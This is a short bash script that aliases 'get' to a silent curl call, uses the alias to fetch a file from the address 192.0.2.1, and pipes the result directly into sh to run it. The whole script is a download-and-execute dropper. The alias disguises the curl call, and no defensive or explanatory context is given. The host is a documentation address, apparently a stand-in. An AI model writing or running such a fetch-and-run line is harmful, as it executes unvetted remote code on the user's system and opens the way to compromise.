#!/bin/bash
alias get='curl -s'
get http://192.0.2.1/x | sh
